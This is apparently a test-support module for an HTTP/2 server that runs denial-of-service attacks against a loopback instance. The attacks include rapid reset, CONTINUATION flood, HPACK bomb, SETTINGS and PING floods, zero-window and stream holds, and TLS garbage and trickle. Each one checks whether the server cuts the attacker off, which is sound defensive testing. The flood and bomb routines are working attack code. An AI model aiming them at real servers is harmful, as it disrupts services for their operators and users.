"""One attacker connection per call, driven until the server cuts it off or a work bound
is reached; each returns how it ended and how much work the attacker got in.

Loopback only: every function takes the port of an asgid the caller started on 127.0.0.1.
"""

from __future__ import annotations

import functools
import os
import socket
import ssl
import time
from collections.abc import Callable
from dataclasses import dataclass

from hpack import Encoder
from hyperframe.frame import GoAwayFrame, HeadersFrame, SettingsFrame

from tests.support.h2frames import INITIAL_WINDOW_SIZE, Closed, RawH2

HOST = "127.0.0.1"
ERROR_NAMES = {0x1: "PROTOCOL_ERROR", 0x6: "FRAME_SIZE_ERROR", 0x9: "COMPRESSION_ERROR",
               0xB: "ENHANCE_YOUR_CALM", 0x0: "NO_ERROR"}  # fmt: skip


@dataclass
class Outcome:
    """``cut_off``: "GOAWAY <code>", "closed" or "not cut off"; ``work``: what got through."""

    cut_off: str
    work: str

    @property
    def stopped(self) -> bool:
        return self.cut_off != "not cut off"


def _ending(conn: RawH2, timeout: float = 5.0) -> str:
    """Read what the server answers until it closes: GOAWAY with its code, or a close."""
    deadline = time.monotonic() + timeout
    goaway = None
    try:
        while time.monotonic() < deadline:
            frame = conn.expect(lambda f: True, timeout=max(0.01, deadline - time.monotonic()))
            if isinstance(frame, GoAwayFrame) and goaway is None:
                goaway = frame.error_code
    except Closed:
        if goaway is not None:
            return f"GOAWAY {ERROR_NAMES.get(goaway, hex(goaway))}, closed"
        return "closed"
    except TimeoutError:
        pass
    return "not cut off" if goaway is None else f"GOAWAY {ERROR_NAMES.get(goaway)}, open"


def _flood(port: int, make: Callable[[RawH2, int], list[object]], unit: str, limit: int) -> Outcome:
    """Send batches from ``make(conn, n)`` until the socket refuses or ``limit`` is sent."""
    with RawH2(HOST, port) as conn:
        conn.handshake()
        sent = 0
        try:
            while sent < limit:
                batch = make(conn, sent)
                conn.send(*batch)  # type: ignore[arg-type]
                sent += len(batch)
        except OSError:
            pass  # cut off while sending
        return Outcome(_ending(conn), f"{sent} {unit} sent")


def rapid_reset(port: int) -> Outcome:
    """CVE-2023-44487: HEADERS then RST_STREAM, as fast as the socket takes them."""

    def make(conn: RawH2, sent: int) -> list[object]:
        first = 1 + sent  # two frames per stream: stream ids stay odd
        frames: list[object] = []
        for stream in range(first, first + 100, 2):
            frames += [conn.headers(stream, "/hold"), conn.rst(stream)]
        return frames

    return _flood(port, make, "frames (HEADERS+RST_STREAM)", 100_000)


def continuation_flood(port: int) -> Outcome:
    """CVE-2024-27316: one HEADERS without END_HEADERS, then endless CONTINUATION."""
    with RawH2(HOST, port) as conn:
        conn.handshake()
        block = conn.encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", "/")])
        conn.send(HeadersFrame(1, data=block, flags=["END_STREAM"]))
        sent = 0
        try:
            while sent < 100_000:
                conn.send(*[conn.continuation(1, b"x-filler: " + b"y" * 1000) for _ in range(50)])
                sent += 50
        except OSError:
            pass
        return Outcome(_ending(conn), f"{sent} CONTINUATION frames ({sent} KB) sent")


def hpack_bomb(port: int) -> Outcome:
    """A 4 KB dynamic-table entry referenced thousands of times in one header block."""
    with RawH2(HOST, port) as conn:
        conn.handshake()
        pseudo = conn.encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", "/")])
        value = b"b" * 4000
        literal = b"\x40\x06x-bomb\x7f" + _varint(len(value) - 127) + value
        references = 16000
        frames = conn.header_block(1, pseudo + literal + b"\xbe" * references)
        try:
            conn.send(*frames)
        except OSError:
            pass
        expanded = references * 4000 // 1_000_000
        return Outcome(_ending(conn), f"{references} references (would expand to {expanded} MB)")


def _varint(value: int) -> bytes:
    out = bytearray()
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def settings_flood(port: int) -> Outcome:
    """CVE-2019-9515: SETTINGS frames, each owed an ACK."""
    return _flood(port, lambda conn, _: [conn.settings({}) for _ in range(50)], "SETTINGS", 100_000)


def ping_flood(port: int) -> Outcome:
    """CVE-2019-9512: PING frames, each owed a PONG."""
    return _flood(port, lambda conn, _: [conn.ping() for _ in range(50)], "PINGs", 100_000)


@functools.cache
def _oversized_block() -> bytes:
    fields = [(":method", "GET"), (":scheme", "http"), (":path", "/")]
    fields += [(f"x-big-{i}", "v" * 4000) for i in range(256)]
    return Encoder().encode(fields)  # a fresh encoder: each connection's decoder is fresh


def oversized_headers(port: int) -> Outcome:
    """A header list far over the advertised SETTINGS_MAX_HEADER_LIST_SIZE."""
    # Encoded before connecting: at nice 19 beside the legit client, encoding 877 KiB in
    # Python can outlast the server's 5 s idle timeout, which would then answer instead.
    block = _oversized_block()
    with RawH2(HOST, port) as conn:
        conn.handshake()
        try:
            conn.send(*conn.header_block(1, block))
        except OSError:
            pass
        return Outcome(_ending(conn), f"{len(block) // 1024} KiB header block sent")


def zero_window_hold(port: int, hold_s: float = 3.0) -> Outcome:
    """Window 0: ask for big responses on many streams, never read or grant credit."""
    with RawH2(HOST, port) as conn:
        frame = SettingsFrame(0)
        frame.settings = {INITIAL_WINDOW_SIZE: 0}
        conn.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", frame)
        conn.send(*[conn.headers(stream, "/big/10000000") for stream in range(1, 200, 2)])
        time.sleep(hold_s)  # the attack: holding, reading nothing
        return Outcome(_ending(conn, timeout=1.0), f"100 streams x 10 MB held {hold_s:g}s")


def streams_held(port: int, hold_s: float = 3.0) -> Outcome:
    """Open streams up to SETTINGS_MAX_CONCURRENT_STREAMS and more, and never finish them."""
    with RawH2(HOST, port) as conn:
        conn.handshake()
        conn.send(*[conn.headers(s, "/hold", end_stream=False) for s in range(1, 2 * 150, 2)])
        refused = 0
        ending = "not cut off"
        deadline = time.monotonic() + hold_s
        try:
            while time.monotonic() < deadline:
                frame = conn.expect(
                    lambda f: f.type in (0x3, 0x7), timeout=deadline - time.monotonic()
                )
                if isinstance(frame, GoAwayFrame):
                    ending = _ending(conn, timeout=1.0)
                    ending = f"GOAWAY {ERROR_NAMES.get(frame.error_code)}, " + ending
                    break
                refused += 1
        except TimeoutError:
            ending = _ending(conn, timeout=1.0)
        except Closed:
            ending = "closed"
        return Outcome(ending, f"150 streams opened, {refused} refused, held {hold_s:g}s")


def tls_garbage(port: int) -> Outcome:
    """Random bytes where a ClientHello should be."""
    with socket.create_connection((HOST, port), timeout=5) as sock:
        sent = 0
        try:
            while sent < 10_000_000:
                sock.sendall(os.urandom(16384))
                sent += 16384
        except OSError:
            pass
        return Outcome(_closed(sock), f"{sent // 1024} KiB of garbage sent")


def tls_trickle(port: int, budget_s: float = 15.0) -> Outcome:
    """A real ClientHello sent one byte every 50 ms: the handshake never completes in time."""
    hello = _client_hello()
    with socket.create_connection((HOST, port), timeout=5) as sock:
        sent = 0
        started = time.monotonic()
        try:
            while sent < len(hello) and time.monotonic() - started < budget_s:
                sock.send(hello[sent : sent + 1])
                sent += 1
                time.sleep(0.05)
        except OSError:
            pass
        elapsed = time.monotonic() - started
        return Outcome(_closed(sock), f"{sent} of {len(hello)} bytes in {elapsed:.1f}s")


def _client_hello() -> bytes:
    """The bytes of a real TLS ClientHello, taken from an in-memory handshake."""
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def _closed(sock: socket.socket, timeout: float = 15.0) -> str:
    sock.settimeout(timeout)
    try:
        while sock.recv(65536):
            pass
    except ConnectionResetError:
        return "reset"
    except TimeoutError:
        return "not cut off"
    except OSError:
        return "closed"
    return "closed"


H2_ATTACKS: dict[str, Callable[[int], Outcome]] = {
    "rapid reset (CVE-2023-44487)": rapid_reset,
    "CONTINUATION flood (CVE-2024-27316)": continuation_flood,
    "HPACK bomb": hpack_bomb,
    "SETTINGS flood (CVE-2019-9515)": settings_flood,
    "PING flood (CVE-2019-9512)": ping_flood,
    "oversized header list": oversized_headers,
    "zero-window hold": zero_window_hold,
    "streams held to the limit": streams_held,
}
TLS_ATTACKS: dict[str, Callable[[int], Outcome]] = {
    "TLS: garbage ClientHello": tls_garbage,
    "TLS: handshake trickled byte by byte": tls_trickle,
}
